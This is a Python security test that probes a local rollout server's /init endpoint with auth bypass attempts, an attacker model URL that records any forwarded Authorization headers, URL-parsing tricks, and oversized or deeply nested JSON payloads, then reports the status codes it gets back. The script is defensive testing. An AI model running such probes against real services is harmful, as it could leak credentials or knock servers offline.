"""The issue-39 attacks on Fireworks' remote rollout server (``/init``), run in ``.venv-eco2`` (EP installed).

``python -m tests.surfaces.eval_protocol.eco_init_attack TOOLS_URL LLM_URL DATASET TOKEN``: starts the /init app
with its own token and ``LLM_URL/v1`` as the only allowed model URL, and an "attacker" model server that records
every request; prints one JSON line with what each attack got.
"""

import asyncio
import json
import sys

import httpx
from starlette.applications import Starlette
from starlette.responses import JSONResponse
from starlette.routing import Route

from rft_sdk.integrations.eval_protocol import hosted_rows, remote_rollout_app
from rft_sdk.testing import run_server

SEEN: list[dict] = []


async def attacker(request):
    SEEN.append({"path": request.url.path, "authorization": request.headers.get("authorization")})
    return JSONResponse({"error": "attacker"}, status_code=500)


async def main() -> None:
    tools_url, llm_url, dataset, token = sys.argv[1:5]
    items = [json.loads(line) for line in open(dataset, encoding="utf-8") if line.strip()][:1]
    row = hosted_rows(items)[0]
    evil = Starlette(routes=[Route("/{path:path}", attacker, methods=["GET", "POST"])])
    app = remote_rollout_app(tools_url, items, token=token, auth_tokens=["init-secret"], auth_env_var=None,
                             model_base_urls=[llm_url + "/v1"])
    out: dict = {}
    with run_server(evil) as evil_url, run_server(app) as remote:
        body = {"completion_params": {"model": "m"}, "messages": [m.model_dump(mode="json") for m in row.messages],
                "tools": row.tools, "model_base_url": evil_url + "/v1",
                "metadata": {"invocation_id": "i", "experiment_id": "e", "rollout_id": "r1", "run_id": "u",
                             "row_id": row.input_metadata.row_id}}
        good = {"Authorization": "Bearer init-secret"}
        async with httpx.AsyncClient(base_url=remote, timeout=60) as client:
            out["no_token"] = (await client.post("/init", json=body)).status_code
            out["wrong_token"] = (await client.post("/init", json=body, headers={"Authorization": "Bearer x"})).status_code
            out["status_no_token"] = (await client.get("/status", params={"rollout_id": "r1"})).status_code
            for form in ({"Authorization": "Bearer init-secret"}, {"X-Functions-Key": "init-secret"},
                         {"api-key": "init-secret"}):  # the tool server's token forms, on an unknown row: 422
                odd = {**body, "model_base_url": llm_url + "/v1", "metadata": {**body["metadata"], "row_id": "nope"}}
                out.setdefault("token_forms", []).append((await client.post("/init", json=odd, headers=form)).status_code)
            evil_answer = await client.post("/init", json=body, headers=good)
            out["evil_url"] = [evil_answer.status_code, evil_answer.json().get("code")]
            userinfo = {**body, "model_base_url": llm_url.replace("http://", "http://x@") + "/v1"}
            out["userinfo_url"] = (await client.post("/init", json=userinfo, headers=good)).status_code
            sibling = {**body, "model_base_url": llm_url + "/v1x"}
            out["sibling_path"] = (await client.post("/init", json=sibling, headers=good)).status_code
            huge = b'{"completion_params": {"model": "' + b"a" * 3_000_000 + b'"}}'
            answer = await client.post("/init", content=huge, headers={**good, "content-type": "application/json"})
            out["huge"] = [answer.status_code, len(answer.content)]
            marker = "ECHO-ME-" + "z" * 200_000
            answer = await client.post("/init", json={"completion_params": marker, "metadata": marker}, headers=good)
            out["invalid"] = [answer.status_code, marker[:20] in answer.text, len(answer.content)]
            answer = await client.post("/init", content=b"[" * 100_000, headers=good)
            out["deep"] = answer.status_code
            answer = await client.post("/init", content=b'{"a": ' + b"1" * 5000 + b"}", headers=good)
            out["big_int"] = answer.status_code
            await asyncio.sleep(0.5)
    out["attacker_requests"] = SEEN
    print(json.dumps(out))


asyncio.run(main())
